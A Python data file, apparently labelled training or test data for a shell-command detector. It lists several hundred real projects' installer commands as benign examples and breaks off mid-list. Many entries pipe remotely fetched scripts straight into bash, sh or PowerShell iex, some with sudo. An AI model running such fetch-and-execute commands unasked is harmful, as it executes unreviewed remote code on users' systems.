def ok(kind: str, target: str, source: str | None, text: str) -> None:
    BENIGN.append((kind, target, source, text))


# --- Installers of real projects not used by the earlier sets, each from its own page ------------
# (page, command) as the project's README, site or release page gives it.

OWN_PAGES = [
    ("https://github.com/moonrepo/moon", "curl -fsSL https://moonrepo.dev/install/moon.sh | bash"),
    ("https://github.com/FuelLabs/fuelup", "curl -fsSL https://install.fuel.network/ | sh"),
    ("https://github.com/ddev/ddev", "curl -fsSL https://ddev.com/install.sh | bash"),
    (
        "https://github.com/shorebirdtech/shorebird",
        "curl --proto '=https' --tlsv1.2 https://raw.githubusercontent.com/shorebirdtech/install/main/install.sh -sSf | bash",
    ),
    (
        "https://github.com/mobile-dev-inc/maestro",
        'curl -Ls "https://get.maestro.mobile.dev" | bash',
    ),
    (
        "https://github.com/fosrl/pangolin",
        "curl -fsSL https://digpangolin.com/get-installer.sh | bash",
    ),
    ("https://github.com/juicedata/juicefs", "curl -sSL https://d.juicefs.com/install | sh -"),
    ("https://github.com/memstechtips/Winhance", 'irm "https://get.winhance.net" | iex'),
    (
        "https://github.com/SpotX-Official/SpotX",
        "iex \"& { $(iwr -useb 'https://raw.githubusercontent.com/SpotX-Official/spotx-official.github.io/main/run.ps1') } -new_theme\"",
    ),
    ("https://github.com/badmotorfinger/z", "Install-Module z -AllowClobber"),
    (
        "https://github.com/getporter/porter",
        "curl -L https://cdn.porter.sh/latest/install-linux.sh | bash",
    ),
    ("https://github.com/werf/werf", "curl -sSL https://werf.io/install.sh | bash -s -- --ci"),
    (
        "https://github.com/GreptimeTeam/greptimedb",
        "curl -fsSL https://raw.githubusercontent.com/greptimeteam/greptimedb/main/scripts/install.sh | sh",
    ),
    ("https://github.com/spiceai/spiceai", "curl https://install.spiceai.org | /bin/bash"),
    ("https://github.com/gpustack/gpustack", "curl -sfL https://get.gpustack.ai | sh -s -"),
    (
        "https://github.com/OpenInterpreter/open-interpreter",
        "curl -sL https://raw.githubusercontent.com/openinterpreter/open-interpreter/main/installers/oi-linux-installer.sh | bash",
    ),
    (
        "https://github.com/tailcallhq/tailcall",
        "curl -sSL https://raw.githubusercontent.com/tailcallhq/tailcall/master/install.sh | bash",
    ),
    (
        "https://github.com/grafbase/grafbase",
        "curl -fsSL https://grafbase.com/downloads/cli | bash",
    ),
    (
        "https://github.com/clockworklabs/SpacetimeDB",
        "curl -sSf https://install.spacetimedb.com | sh",
    ),
    (
        "https://github.com/MCSManager/MCSManager",
        'sudo su -c "wget -qO- https://script.mcsmanager.com/setup.sh | bash"',
    ),
    (
        "https://github.com/nezhahq/nezha",
        "curl -L https://raw.githubusercontent.com/nezhahq/scripts/main/install.sh -o nezha.sh && chmod +x nezha.sh && sudo ./nezha.sh",
    ),
    ("https://github.com/masonr/yet-another-bench-script", "curl -sL yabs.sh | bash"),
    ("https://github.com/n-st/nench", "curl -s wget.racing/nench.sh | bash"),
    ("https://github.com/lmc999/RegionRestrictionCheck", "bash <(curl -L -s check.unlock.media)"),
    ("https://github.com/nxtrace/NTrace-core", "curl nxtrace.org/nt | bash"),
    (
        "https://github.com/zhanghanyun/backtrace",
        "curl https://raw.githubusercontent.com/zhanghanyun/backtrace/main/install.sh -sSf | sh",
    ),
    (
        "https://github.com/mack-a/v2ray-agent",
        'wget -P /root -N --no-check-certificate "https://raw.githubusercontent.com/mack-a/v2ray-agent/master/install.sh" && chmod 700 /root/install.sh && /root/install.sh',
    ),
    (
        "https://github.com/alireza0/s-ui",
        "bash <(curl -Ls https://raw.githubusercontent.com/alireza0/s-ui/master/install.sh)",
    ),
    (
        "https://github.com/go-gost/gost",
        "bash <(curl -fsSL https://github.com/go-gost/gost/raw/master/install.sh) --install",
    ),
    (
        "https://github.com/snail007/goproxy",
        'bash -c "$(curl -s -L https://raw.githubusercontent.com/snail007/goproxy/master/install_auto.sh)"',
    ),
    ("https://github.com/Jrohy/trojan", "source <(curl -sL https://git.io/trojan-install)"),
    (
        "https://github.com/wulabing/Xray_onekey",
        'wget -N --no-check-certificate -q -O install.sh "https://raw.githubusercontent.com/wulabing/Xray_onekey/main/install.sh" && chmod +x install.sh && bash install.sh',
    ),
    (
        "https://github.com/P3TERX/aria2.sh",
        "wget -N git.io/aria2.sh && chmod +x aria2.sh && ./aria2.sh",
    ),
    (
        "https://github.com/alist-org/alist",
        'curl -fsSL "https://alist.nn.ci/v3.sh" | bash -s install',
    ),
    (
        "https://github.com/SuperManito/LinuxMirrors",
        "bash <(curl -sSL https://linuxmirrors.cn/main.sh)",
    ),
    ("https://github.com/kejilion/sh", "bash <(curl -sL kejilion.sh)"),
    (
        "https://github.com/techahold/rustdeskinstall",
        "wget https://raw.githubusercontent.com/techahold/rustdeskinstall/master/install.sh\nchmod +x install.sh\n./install.sh",
    ),
    ("https://github.com/P3TERX/warp.sh", "bash <(curl -fsSL git.io/warp.sh) menu"),
    (
        "https://github.com/zoicware/RemoveWindowsAI",
        '& ([scriptblock]::Create((irm "https://raw.githubusercontent.com/zoicware/RemoveWindowsAI/main/RemoveWindowsAi.ps1")))',
    ),
    ("https://github.com/end-4/dots-hyprland", "bash <(curl -s https://ii.clsty.link/setup)"),
    ("https://github.com/basecamp/omarchy", "wget -qO- https://omarchy.org/install | bash"),
    ("https://github.com/ChrisTitusTech/linutil", "curl -fsSL https://christitus.com/linux | sh"),
    (
        "https://github.com/getnf/getnf",
        "curl -fsSL https://raw.githubusercontent.com/getnf/getnf/main/install.sh | bash",
    ),
    (
        "https://github.com/JetBrains/JetBrainsMono",
        '/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/JetBrains/JetBrainsMono/master/install_manual.sh)"',
    ),
    ("https://github.com/Gogh-Co/Gogh", 'bash -c "$(wget -qO- https://git.io/vQgMr)"'),
    (
        "https://github.com/ayamir/nvimdots",
        'bash -c "$(curl -fsSL https://raw.githubusercontent.com/ayamir/nvimdots/HEAD/scripts/install.sh)"',
    ),
    (
        "https://github.com/pinterest/ktlint",
        "curl -sSLO https://github.com/pinterest/ktlint/releases/download/1.5.0/ktlint && chmod a+x ktlint && sudo mv ktlint /usr/local/bin/",
    ),
    (
        "https://github.com/clojure-lsp/clojure-lsp",
        "bash < <(curl -s https://raw.githubusercontent.com/clojure-lsp/clojure-lsp/master/install)",
    ),
    (
        "https://github.com/matter-labs/foundry-zksync",
        "curl -L https://raw.githubusercontent.com/matter-labs/foundry-zksync/main/install-foundry-zksync | bash",
    ),
    ("https://github.com/dojoengine/dojo", "curl -L https://install.dojoengine.org | bash"),
    (
        "https://github.com/near/cargo-near",
        "curl --proto '=https' --tlsv1.2 -LsSf https://github.com/near/cargo-near/releases/latest/download/cargo-near-installer.sh | sh",
    ),
    (
        "https://github.com/paritytech/polkadot-sdk",
        "curl --proto '=https' --tlsv1.2 -sSf https://raw.githubusercontent.com/paritytech/polkadot-sdk/refs/heads/master/scripts/getting-started.sh | bash",
    ),
    (
        "https://github.com/MystenLabs/suiup",
        "curl -sSfL https://raw.githubusercontent.com/Mystenlabs/suiup/main/install.sh | sh",
    ),
    (
        "https://github.com/prysmaticlabs/prysm",
        "curl https://raw.githubusercontent.com/prysmaticlabs/prysm/master/prysm.sh --output prysm.sh && chmod +x prysm.sh",
    ),
    (
        "https://github.com/dappnode/DAppNode",
        "sudo wget -O - https://installer.dappnode.io | sudo bash",
    ),
    (
        "https://github.com/devops-works/binenv",
        "wget -q https://github.com/devops-works/binenv/releases/download/v0.19.11/binenv_linux_amd64 -O binenv && chmod +x binenv && ./binenv update && ./binenv install binenv",
    ),
    (
        "https://github.com/influxdata/influxdb",
        "curl -O https://www.influxdata.com/d/install_influxdb3.sh && sh install_influxdb3.sh",
    ),
    ("https://github.com/hackerschoice/gsocket", 'bash -c "$(curl -fsSL https://gsocket.io/y)"'),
    ("https://github.com/Canop/safecloset", "cargo install --locked safecloset"),
    ("https://github.com/Canop/clima", "cargo install clima"),
    ("https://github.com/dalance/termbg", "cargo install termbg"),
    ("https://github.com/dalance/svlint", "cargo install svlint"),
    ("https://github.com/dalance/flexlint", "cargo install flexlint"),
    ("https://github.com/lzanini/mdbook-katex", "cargo install mdbook-katex"),
    ("https://github.com/crev-dev/cargo-crev", "cargo install cargo-crev"),
    ("https://github.com/mozilla/cargo-vet", "cargo install --locked cargo-vet"),
    ("https://github.com/fiatjaf/jiq", "go install github.com/fiatjaf/jiq/cmd/jiq@latest"),
    (
        "https://github.com/pamburus/hl",
        "cargo install --locked --git https://github.com/pamburus/hl.git",
    ),
    ("https://github.com/ms-jpq/chadtree", "pip install chadtree"),
    ("https://github.com/ynqa/empiriqa", "cargo install empiriqa"),
    ("https://github.com/crate-ci/committed", "cargo install committed"),
    ("https://github.com/sfackler/cargo-tree", "cargo install cargo-tree"),
    ("https://github.com/rust-lang/rust-clippy", "rustup component add clippy"),
    ("https://github.com/FedericoPonzi/Horust", "cargo install horust"),
    ("https://github.com/nao1215/sqly", "go install github.com/nao1215/sqly@latest"),
    ("https://github.com/josephburnett/jd", "go install github.com/josephburnett/jd@latest"),
    (
        "https://github.com/itchyny/rassemble-go",
        "go install github.com/itchyny/rassemble-go/cmd/rassemble@latest",
    ),
    ("https://github.com/sachaos/viddy", "go install github.com/sachaos/viddy@latest"),
    ("https://github.com/instrumenta/kubeval", "go install github.com/instrumenta/kubeval@latest"),
    (
        "https://github.com/kubernetes-sigs/controller-tools",
        "go install sigs.k8s.io/controller-tools/cmd/controller-gen@latest",
    ),
    ("https://github.com/bee-san/Ares", "cargo install project_ares"),
    (
        "https://github.com/sundowndev/phoneinfoga",
        "go install github.com/sundowndev/phoneinfoga/v2@latest",
    ),
    ("https://github.com/devanshbatham/ParamSpider", "pip install ."),
    ("https://github.com/blechschmidt/massdns", "make"),
    ("https://github.com/michenriksen/aquatone", "go get -u github.com/michenriksen/aquatone"),
    ("https://github.com/Findomain/Findomain", "cargo install findomain"),
    ("https://github.com/k1LoW/git-wt", "go install github.com/k1LoW/git-wt@latest"),
    ("https://github.com/k1LoW/runn", "go install github.com/k1LoW/runn/cmd/runn@latest"),
    ("https://github.com/k1LoW/ghfs", "go install github.com/k1LoW/ghfs@latest"),
    ("https://github.com/Songmu/ghch", "go install github.com/Songmu/ghch/cmd/ghch@latest"),
    ("https://github.com/Songmu/tagpr", "go install github.com/Songmu/tagpr/cmd/tagpr@latest"),
    ("https://github.com/x-motemen/gore", "go install github.com/x-motemen/gore/cmd/gore@latest"),
    (
        "https://github.com/alexkohler/nakedret",
        "go install github.com/alexkohler/nakedret/v2/cmd/nakedret@latest",
    ),
    (
        "https://github.com/orijtech/structslop",
        "go install github.com/orijtech/structslop/cmd/structslop@latest",
    ),
    (
        "https://github.com/dkorunic/betteralign",
        "go install github.com/dkorunic/betteralign/cmd/betteralign@latest",
    ),
    ("https://github.com/Khan/genqlient", "go get github.com/Khan/genqlient"),
    ("https://github.com/caarlos0/svu", "go install github.com/caarlos0/svu/v3@latest"),
    (
        "https://github.com/caarlos0/fork-cleaner",
        "go install github.com/caarlos0/fork-cleaner/v2/cmd/fork-cleaner@latest",
    ),
    ("https://github.com/rhysd/git-brws", "cargo install git-brws"),
    ("https://github.com/99designs/aws-vault", "brew install --cask aws-vault"),
    (
        "https://github.com/common-fate/granted",
        "brew tap common-fate/granted\nbrew install granted",
    ),
    ("https://github.com/Versent/saml2aws", "brew install saml2aws"),
    ("https://github.com/gruntwork-io/cloud-nuke", "brew install cloud-nuke"),
    (
        "https://github.com/gruntwork-io/boilerplate",
        "go install github.com/gruntwork-io/boilerplate@latest",
    ),
    ("https://github.com/minamijoyo/hcledit", "go install github.com/minamijoyo/hcledit@latest"),
    ("https://github.com/cycloidio/inframap", "go install github.com/cycloidio/inframap@latest"),
    (
        "https://github.com/cycloidio/terracognita",
        "go install github.com/cycloidio/terracognita@latest",
    ),
    ("https://github.com/tofuutils/tenv", "brew install tenv"),
    ("https://github.com/shihanng/tfvar", "go install github.com/shihanng/tfvar@latest"),
    (
        "https://github.com/hashicorp/terraform-ls",
        "go install github.com/hashicorp/terraform-ls@latest",
    ),
    ("https://github.com/hashicorp/copywrite", "go install github.com/hashicorp/copywrite@latest"),
    ("https://github.com/hashicorp/envconsul", "go install github.com/hashicorp/envconsul@latest"),
    (
        "https://github.com/hashicorp/consul-template",
        "go install github.com/hashicorp/consul-template@latest",
    ),
    ("https://github.com/tconbeer/sqlfmt", "pipx install shandy-sqlfmt[jinjafmt]"),
    ("https://github.com/1j01/textual-paint", "pip install textual-paint"),
    ("https://github.com/juftin/browsr", "pipx install browsr"),
    ("https://github.com/kraanzu/dooit", "pip install dooit"),
    ("https://github.com/kraanzu/smassh", "pipx install smassh"),
    ("https://github.com/Zaloog/kanban-python", "pipx install kanban-python"),
    ("https://github.com/ChrisBuilds/terminaltexteffects", "pipx install terminaltexteffects"),
    ("https://github.com/nschloe/tuna", "pip install tuna"),
    ("https://github.com/nschloe/perfplot", "pip install perfplot"),
    ("https://github.com/nschloe/meshio", "pip install meshio[all]"),
    ("https://github.com/nschloe/tiptop", "pip install tiptop"),
    ("https://github.com/nschloe/stressberry", "pip install stressberry"),
    ("https://github.com/gaogaotiantian/objprint", "pip install objprint"),
    ("https://github.com/alexmojaki/heartrate", "pip install --user heartrate"),
    ("https://github.com/alexmojaki/birdseye", "pip install birdseye"),
    ("https://github.com/terryyin/lizard", "pip install lizard"),
    ("https://github.com/fpgmaas/deptry", "pip install deptry"),
    ("https://github.com/regebro/pyroma", "pip install pyroma"),
    ("https://github.com/mgedmin/check-manifest", "pip install check-manifest"),
    ("https://github.com/asottile/add-trailing-comma", "pip install add-trailing-comma"),
    ("https://github.com/asottile/reorder-python-imports", "pip install reorder-python-imports"),
    ("https://github.com/asottile/dead", "pip install dead"),
    ("https://github.com/adamchainz/blacken-docs", "python -m pip install blacken-docs"),
    ("https://github.com/hakancelikdev/unimport", "pip install unimport"),
    ("https://github.com/rstcheck/rstcheck", "pip install rstcheck"),
    ("https://github.com/executablebooks/mdformat", "pip install mdformat"),
    ("https://github.com/amperser/proselint", "pip install proselint"),
    ("https://github.com/streetsidesoftware/cspell", "npm install -g cspell@latest"),
    (
        "https://github.com/client9/misspell",
        "go install github.com/client9/misspell/cmd/misspell@latest",
    ),
    ("https://github.com/ImageOptim/gifski", "cargo install gifski"),
    ("https://github.com/kornelski/cavif-rs", "cargo install cavif"),
    ("https://github.com/kornelski/dssim", "cargo install dssim"),
    ("https://github.com/xiph/rav1e", "cargo install rav1e"),
    ("https://github.com/instaloader/instaloader", "pip3 install instaloader"),
    ("https://github.com/bellingcat/auto-archiver", "pip install auto-archiver"),
    ("https://github.com/ArchiveBox/ArchiveBox", "pip install archivebox"),
    ("https://github.com/webrecorder/pywb", "pip install pywb"),
    ("https://github.com/jjjake/internetarchive", "pip install internetarchive"),
    ("https://github.com/jarun/buku", "pip3 install buku"),
    ("https://github.com/jarun/pdd", "pip3 install pdd"),
    ("https://github.com/tldr-pages/tldr-python-client", "pip install tldr"),
    ("https://github.com/Rapptz/discord.py", "python3 -m pip install -U discord.py"),
    (
        "https://github.com/python-telegram-bot/python-telegram-bot",
        "pip install python-telegram-bot --upgrade",
    ),
    ("https://github.com/LonamiWebs/Telethon", "pip3 install telethon"),
    ("https://github.com/tweepy/tweepy", "pip install tweepy"),
    ("https://github.com/praw-dev/praw", "pip install praw"),
    ("https://github.com/slackapi/python-slack-sdk", "pip install slack_sdk"),
    ("https://github.com/matrix-nio/matrix-nio", "pip install matrix-nio"),
    ("https://github.com/emmett-framework/granian", "pip install granian"),
    ("https://github.com/pgjones/hypercorn", "pip install hypercorn"),
    ("https://github.com/widgetti/solara", "pip install solara"),
    ("https://github.com/nbQA-dev/nbQA", "python -m pip install -U nbqa"),
    ("https://github.com/jupyter/nbdime", "pip install nbdime"),
    ("https://github.com/jupyter-book/jupyter-book", "pip install -U jupyter-book"),
    ("https://github.com/mitmproxy/pdoc", "pip install pdoc"),
    ("https://github.com/pradyunsg/furo", "pip install furo"),
    ("https://github.com/readthedocs/sphinx_rtd_theme", "pip install sphinx-rtd-theme"),
    ("https://github.com/sindresorhus/empty-trash-cli", "npm install --global empty-trash-cli"),
    ("https://github.com/sindresorhus/speed-test", "npm install --global speed-test"),
    ("https://github.com/sindresorhus/is-up-cli", "npm install --global is-up-cli"),
    ("https://github.com/privatenumber/tsx", "npm install -D tsx"),
    ("https://github.com/hey-api/openapi-ts", "npm install @hey-api/openapi-ts -D -E"),
    ("https://github.com/openapi-ts/openapi-typescript", "npm i -D openapi-typescript typescript"),
    ("https://github.com/apideck-libraries/portman", "npm install -g @apideck/portman"),
    ("https://github.com/IBM/openapi-validator", "npm install -g ibm-openapi-validator"),
    ("https://github.com/microsoft/rushstack", "npm install -g @microsoft/rush"),
    ("https://github.com/Whisky-App/Whisky", "brew install --cask whisky"),
    ("https://github.com/MobileNativeFoundation/XCLogParser", "brew install xclogparser"),
    ("https://github.com/cpisciotta/xcbeautify", "brew install xcbeautify"),
    ("https://github.com/ruby/rbs", "gem install rbs"),
    ("https://github.com/soutaro/steep", "gem install steep"),
    ("https://github.com/Shopify/ruby-lsp", "gem install ruby-lsp"),
    ("https://github.com/castwide/solargraph", "gem install solargraph"),
    ("https://github.com/flyerhzm/bullet", 'bundle add bullet --group="development"'),
    ("https://github.com/mina-deploy/mina", "gem install mina"),
    ("https://github.com/capistrano/capistrano", "gem install capistrano"),
    ("https://github.com/basecamp/kamal", "gem install kamal"),
    ("https://github.com/github/licensed", "gem install licensed"),
    (
        "https://github.com/github-changelog-generator/github-changelog-generator",
        "gem install github_changelog_generator",
    ),
    ("https://github.com/danger/danger", "gem install danger"),
    ("https://github.com/sass/dart-sass", "npm install -g sass"),
    ("https://github.com/felangel/mason", "dart pub global activate mason_cli"),
    ("https://github.com/jonataslaw/get_cli", "dart pub global activate get_cli"),
    (
        "https://github.com/dotnet-outdated/dotnet-outdated",
        "dotnet tool install --global dotnet-outdated-tool",
    ),
    ("https://github.com/belav/csharpier", "dotnet tool install csharpier -g"),
    ("https://github.com/microsoft/kiota", "dotnet tool install --global Microsoft.OpenApi.Kiota"),
    ("https://github.com/RicoSuter/NSwag", "dotnet tool install --global NSwag.ConsoleCore"),
    (
        "https://github.com/domaindrivendev/Swashbuckle.AspNetCore",
        "dotnet add package Swashbuckle.AspNetCore",
    ),
    ("https://github.com/cake-build/cake", "dotnet tool install --global Cake.Tool"),
    ("https://github.com/GitTools/GitVersion", "dotnet tool install --global GitVersion.Tool"),
    ("https://github.com/FakeItEasy/FakeItEasy", "dotnet add package FakeItEasy"),
    ("https://github.com/AutoFixture/AutoFixture", "dotnet add package AutoFixture"),
    ("https://github.com/bchavez/Bogus", "dotnet add package Bogus"),
    ("https://github.com/serilog/serilog", "dotnet add package Serilog"),
    ("https://github.com/NLog/NLog", "dotnet add package NLog"),
    ("https://github.com/FluentValidation/FluentValidation", "dotnet add package FluentValidation"),
    ("https://github.com/reactiveui/refit", "dotnet add package Refit"),
    ("https://github.com/Humanizr/Humanizer", "dotnet add package Humanizer"),
    ("https://github.com/aws/aws-tools-for-powershell", "Install-Module -Name AWS.Tools.Installer"),
    (
        "https://github.com/vmware/PowerCLI",
        "Install-Module -Name VMware.PowerCLI -Scope CurrentUser",
    ),
    ("https://github.com/PowerShell/Crescendo", "Install-Module Microsoft.PowerShell.Crescendo"),
    (
        "https://github.com/gitextensions/gitextensions",
        "winget install GitExtensionsTeam.GitExtensions",
    ),
    ("https://github.com/Stellarium/stellarium", "winget install Stellarium.Stellarium"),
    ("https://github.com/PCSX2/pcsx2", "flatpak install flathub net.pcsx2.PCSX2"),
    ("https://github.com/RPCS3/rpcs3", "flatpak install flathub net.rpcs3.RPCS3"),
    (
        "https://github.com/dolphin-emu/dolphin",
        "flatpak install flathub org.DolphinEmu.dolphin-emu",
    ),
    ("https://github.com/mtkennerly/ludusavi", "cargo install --locked ludusavi"),
    ("https://github.com/mtkennerly/shawl", "cargo install --locked shawl"),
    (
        "https://github.com/AppImage/appimagetool",
        "wget https://github.com/AppImage/appimagetool/releases/download/continuous/appimagetool-x86_64.AppImage\nchmod +x appimagetool-x86_64.AppImage",
    ),
    (
        "https://github.com/SoftFever/OrcaSlicer",
        "flatpak install flathub io.github.softfever.OrcaSlicer",
    ),
    ("https://github.com/LibrePCB/LibrePCB", "flatpak install flathub org.librepcb.LibrePCB"),
    (
        "https://github.com/horizon-eda/horizon",
        "flatpak install flathub org.horizon_eda.HorizonEDA",
    ),
    ("https://github.com/CadQuery/cadquery", "pip install cadquery"),
    ("https://github.com/gumyr/build123d", "pip install build123d"),
    ("https://github.com/scientifichackers/ampy", "pip install adafruit-ampy"),
    ("https://github.com/stanfordnlp/stanza", "pip install stanza"),
    (
        "https://github.com/EleutherAI/lm-evaluation-harness",
        "git clone --depth 1 https://github.com/EleutherAI/lm-evaluation-harness\ncd lm-evaluation-harness\npip install -e .",
    ),
    ("https://github.com/ml-explore/mlx-lm", "pip install mlx-lm"),
    ("https://github.com/Blaizzy/mlx-vlm", "pip install -U mlx-vlm"),
    ("https://github.com/suno-ai/bark", "pip install git+https://github.com/suno-ai/bark.git"),
    ("https://github.com/k2-fsa/sherpa-onnx", "pip install sherpa-onnx"),
    ("https://github.com/alphacep/vosk-api", "pip3 install vosk"),
    ("https://github.com/Uberi/speech_recognition", "pip install SpeechRecognition"),
    ("https://github.com/quodlibet/mutagen", "pip install mutagen"),
    ("https://github.com/PyAV-Org/PyAV", "pip install av"),
    ("https://github.com/danielgatis/rembg", 'pip install "rembg[cpu,cli]"'),
    ("https://github.com/madmaze/pytesseract", "pip install pytesseract"),
    ("https://github.com/camelot-dev/camelot", 'pip install "camelot-py[base]"'),
    ("https://github.com/VikParuchuri/marker", "pip install marker-pdf"),
    ("https://github.com/DS4SD/docling", "pip install docling"),
    ("https://github.com/Unstructured-IO/unstructured", 'pip install "unstructured[all-docs]"'),
    ("https://github.com/scanny/python-pptx", "pip install python-pptx"),
    ("https://github.com/chezou/tabula-py", "pip install tabula-py"),
    ("https://github.com/xhtml2pdf/xhtml2pdf", "pip install xhtml2pdf"),
    (
        "https://github.com/rstudio/tinytex",
        'wget -qO- "https://yihui.org/tinytex/install-bin-unix.sh" | sh',
    ),
    ("https://github.com/tidyverse/dplyr", 'install.packages("dplyr")'),
    ("https://github.com/rstudio/shiny", 'install.packages("shiny")'),
    ("https://github.com/r-lib/pak", 'install.packages("pak")'),
    ("https://github.com/rstudio/renv", 'install.packages("renv")'),
    ("https://github.com/Rdatatable/data.table", 'install.packages("data.table")'),
    ("https://github.com/ropensci/targets", 'install.packages("targets")'),
    ("https://github.com/r-spatial/sf", 'install.packages("sf")'),
    ("https://github.com/fonsp/Pluto.jl", 'import Pkg; Pkg.add("Pluto")'),
    (
        "https://github.com/SciML/DifferentialEquations.jl",
        'using Pkg\nPkg.add("DifferentialEquations")',
    ),
    ("https://github.com/jump-dev/JuMP.jl", 'import Pkg; Pkg.add("JuMP")'),
    ("https://github.com/timholy/Revise.jl", 'using Pkg\nPkg.add("Revise")'),
    ("https://github.com/apache/apisix", "curl -sL https://run.api7.ai/apisix/quickstart | sh"),
    (
        "https://github.com/turbot/flowpipe",
        'sudo /bin/sh -c "$(curl -fsSL https://flowpipe.io/install/flowpipe.sh)"',
    ),
    (
        "https://github.com/turbot/tailpipe",
        'sudo /bin/sh -c "$(curl -fsSL https://tailpipe.io/install/tailpipe.sh)"',
    ),
    (
        "https://github.com/j3ssie/osmedeus",
        "bash <(curl -fsSL https://raw.githubusercontent.com/osmedeus/osmedeus-base/master/install.sh)",
    ),
    (
        "https://github.com/domoticz/domoticz",
        'sudo bash -c "$(curl -sSfL https://install.domoticz.com)"',
    ),
    (
        "https://github.com/dtcooper/raspotify",
        "curl -sL https://dtcooper.github.io/raspotify/install.sh | sh",
    ),
    (
        "https://github.com/complexorganizations/wireguard-manager",
        "curl https://raw.githubusercontent.com/complexorganizations/wireguard-manager/main/wireguard-manager.sh --create-dirs -o /usr/local/bin/wireguard-manager.sh\nchmod +x /usr/local/bin/wireguard-manager.sh\nbash /usr/local/bin/wireguard-manager.sh",
    ),
    ("https://github.com/xmendez/wfuzz", "pip install wfuzz"),
    ("https://github.com/EnableSecurity/wafw00f", "pip install wafw00f"),
    ("https://github.com/VirusTotal/yara-python", "pip install yara-python"),
    ("https://github.com/VirusTotal/vt-cli", "go install github.com/VirusTotal/vt-cli/vt@latest"),
    ("https://github.com/SigmaHQ/pySigma", "pip install pysigma"),
    (
        "https://github.com/cisagov/untitledgoosetool",
        "pip3 install git+https://github.com/cisagov/untitledgoosetool.git",
    ),
    ("https://github.com/cisagov/ScubaGear", "Install-Module -Name ScubaGear"),
    (
        "https://github.com/invictus-ir/Microsoft-Extractor-Suite",
        "Install-Module -Name Microsoft-Extractor-Suite",
    ),
    ("https://github.com/dirkjanm/ROADtools", "pip install roadrecon"),
    ("https://github.com/prowler-cloud/prowler", "pip install prowler"),
    ("https://github.com/RhinoSecurityLabs/pacu", "pip3 install -U pacu"),
    ("https://github.com/cartography-cncf/cartography", "pip3 install cartography"),
    ("https://github.com/sigstore/gitsign", "go install github.com/sigstore/gitsign@latest"),
    (
        "https://github.com/Kozea/Radicale",
        "python3 -m pip install --upgrade https://github.com/Kozea/Radicale/archive/refs/heads/master.tar.gz",
    ),
    ("https://github.com/checkly/checkly-cli", "npm create checkly@latest"),
    (
        "https://github.com/ekkinox/yai",
        "curl -sS https://raw.githubusercontent.com/ekkinox/yai/main/install.sh | bash",
    ),
    (
        "https://github.com/yorukot/superfile",
        'bash -c "$(curl -sLo- https://superfile.netlify.app/install.sh)"',
    ),
    (
        "https://github.com/Slackadays/Clipboard",
        "curl -sSL https://github.com/Slackadays/Clipboard/raw/main/install.sh | sh",
    ),
    ("https://github.com/mattn/memo", "go install github.com/mattn/memo@latest"),
    ("https://github.com/mattn/twty", "go install github.com/mattn/twty@latest"),
    ("https://github.com/mattn/jvgrep", "go install github.com/mattn/jvgrep/v5@latest"),
    ("https://github.com/mattn/gof", "go install github.com/mattn/gof@latest"),
    ("https://github.com/variadico/noti", "go install github.com/variadico/noti/cmd/noti@latest"),
    ("https://github.com/jondot/goweight", "go install github.com/jondot/goweight@latest"),
    ("https://github.com/loov/goda", "go install github.com/loov/goda@latest"),
    (
        "https://github.com/ms-jpq/gay",
        "pip3 install -U https://github.com/ms-jpq/gay/archive/main.tar.gz",
    ),
    ("https://github.com/dduan/tre", "cargo install tre-command"),
    ("https://github.com/ajeetdsouza/clidle", "go install github.com/ajeetdsouza/clidle@latest"),
    ("https://github.com/ycd/dstp", "go install github.com/ycd/dstp/cmd/dstp@latest"),
    ("https://github.com/natesales/q", "go install github.com/natesales/q@latest"),
    (
        "https://github.com/bvaisvil/zenith",
        "cargo install --git https://github.com/bvaisvil/zenith.git",
    ),
    ("https://github.com/NerdyPepper/dijo", "cargo install dijo"),
    ("https://github.com/cristianoliveira/funzzy", "cargo install funzzy"),
    ("https://github.com/sharkdp/insect", "npm install -g insect"),
    ("https://github.com/jez/as-tree", "cargo install -f --git https://github.com/jez/as-tree"),
]
for page, command in OWN_PAGES:
    ok(OWN, TERM, page, command)

# --- Installers quoted in OTHER projects' pages (the page says: first install X) ----------------

THIRD = "installer-third-party"
for page, command in [
    (
        "https://github.com/yetone/avante.nvim",
        "# install uv first (needed by the MCP hub)\ncurl -LsSf https://astral.sh/uv/install.sh | sh",
    ),
    (
        "https://github.com/modelcontextprotocol/servers",
        "npx -y @modelcontextprotocol/server-memory",
    ),
    (
        "https://github.com/browser-use/browser-use",
        "uv venv --python 3.12\nsource .venv/bin/activate\nuv pip install browser-use\nuvx playwright install chromium --with-deps --no-shell",
    ),
    (
        "https://github.com/paradigmxyz/reth/blob/main/book/installation/source.md",
        "# First, install Rust using rustup\ncurl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh",
    ),
    (
        "https://github.com/leptos-rs/leptos",
        "rustup toolchain install nightly\nrustup target add wasm32-unknown-unknown",
    ),
    (
        "https://github.com/honojs/hono",
        "# Bun\ncurl -fsSL https://bun.sh/install | bash\nbun create hono@latest my-app",
    ),
    (
        "https://github.com/elysiajs/elysia",
        "curl -fsSL https://bun.sh/install | bash\nbun create elysia app",
    ),
    (
        "https://github.com/denoland/fresh",
        "curl -fsSL https://deno.land/install.sh | sh\ndeno run -Ar jsr:@fresh/init",
    ),
    (
        "https://github.com/solana-developers/program-examples",
        '# install the Solana CLI\nsh -c "$(curl -sSfL https://release.anza.xyz/stable/install)"',
    ),
    (
        "https://github.com/OpenZeppelin/openzeppelin-contracts",
        "curl -L https://foundry.paradigm.xyz | bash\nfoundryup\nforge install OpenZeppelin/openzeppelin-contracts",
    ),
    (
        "https://github.com/NixOS/nixpkgs/blob/master/CONTRIBUTING.md",
        "# multi-user install\nsh <(curl -L https://nixos.org/nix/install) --daemon\nnix-shell -p nixpkgs-review",
    ),
    (
        "https://github.com/Homebrew/homebrew-cask/blob/master/CONTRIBUTING.md",
        '# If you do not have Homebrew yet:\n/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"',
    ),
    (
        "https://github.com/jellyfin/jellyfin-web",
        "curl -o- https://raw.githubusercontent.com/nvm-sh/nvm/v0.40.3/install.sh | bash\nnvm install 20",
    ),
    (
        "https://github.com/microsoft/terminal/blob/main/README.md",
        "winget install --id Microsoft.WindowsTerminal -e --source winget",
    ),
    (
        "https://github.com/LazyVim/LazyVim",
        "git clone https://github.com/LazyVim/starter ~/.config/nvim\nrm -rf ~/.config/nvim/.git",
    ),
    (
        "https://github.com/open-webui/open-webui",
        "# Ollama must be running first\ncurl -fsSL https://ollama.com/install.sh | sh\nollama pull llama3.2",
    ),
    (
